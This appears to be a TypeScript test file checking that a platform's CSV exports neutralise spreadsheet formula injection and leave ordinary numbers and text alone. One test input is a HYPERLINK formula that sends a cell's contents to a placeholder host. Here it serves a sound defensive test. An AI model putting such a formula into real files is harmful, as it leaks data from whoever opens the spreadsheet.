/**
 * Every CSV the platform writes for people is safe to open in a spreadsheet: rejects.csv writes a
 * formula-like value as text (the dashboard's export is checked in dashboard/test/exportTable.test.ts).
 * The generator's CSV is the import's exchange format, read by programs: it is written as it is, and
 * this file checks that the generator never produces a formula-like cell in the first place.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { CSV_FILES, generateToCsv } from '../../etl/generate';
import { writeRejectsCsv, type Reject } from '../../etl/csv/rejects';
import { neutraliseFormula } from '../../domain/spreadsheet-cell';

const FORMULA_START = /^[=+\-@\t\r]/;
let folder: string;

beforeAll(() => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'ansz-spreadsheet-cells-'));
});

afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

function reject(value: string | null, message = 'name must not be empty'): Reject {
  return { file: 'enterprises.csv', line: 2, column: 'name', rule: 'required', message, value };
}

test('rejects.csv writes formula-like values as text and keeps numbers, negative ones included', async () => {
  const values = ['=HYPERLINK("http://example.invalid/?d="&A1,"点此")', '+86 351 1234567', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '-250.00', '-5', '太原市某煤矿'];
  const file = path.join(folder, 'rejects.csv');
  await writeRejectsCsv(file, values.map((value) => reject(value)));
  const rows = parse(fs.readFileSync(file), { bom: true, columns: true }) as Array<Record<string, string>>;
  expect(rows.map((row) => row.value)).toEqual([
    `'=HYPERLINK("http://example.invalid/?d="&A1,"点此")`, "'+86 351 1234567", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1",
    '-250.00', '-5', '太原市某煤矿',
  ]);
});

test('a message quoting the submitted text is written as text too', async () => {
  const file = path.join(folder, 'rejects-message.csv');
  await writeRejectsCsv(file, [reject(null, '=1+1 is not a county code')]);
  const [row] = parse(fs.readFileSync(file), { bom: true, columns: true }) as Array<Record<string, string>>;
  expect(row.message).toBe("'=1+1 is not a county code");
  expect(row.value).toBe('');
});

test('neutraliseFormula leaves ordinary text and plain numbers alone', () => {
  expect(neutraliseFormula('中华联合财产保险')).toBe('中华联合财产保险');
  expect(neutraliseFormula('-0.50')).toBe('-0.50');
  expect(neutraliseFormula('+12')).toBe('+12');
  expect(neutraliseFormula('-1e3')).toBe("'-1e3");
  expect(neutraliseFormula('')).toBe('');
});

test('the generator writes no formula-like cell into the exchange-format files', async () => {
  const out = path.join(folder, 'generated');
  await generateToCsv(out, { seed: 7, scale: 'tiny', years: { from: 2024, to: 2025 } });
  let cells = 0;
  for (const { file } of Object.values(CSV_FILES)) {
    const rows = parse(fs.readFileSync(path.join(out, file)), { columns: false }) as string[][];
    for (const row of rows) for (const cell of row) {
      cells += 1;
      expect(`${file}: ${FORMULA_START.test(cell) ? cell : ''}`).toBe(`${file}: `);
    }
  }
  expect(cells).toBeGreaterThan(1000);
});
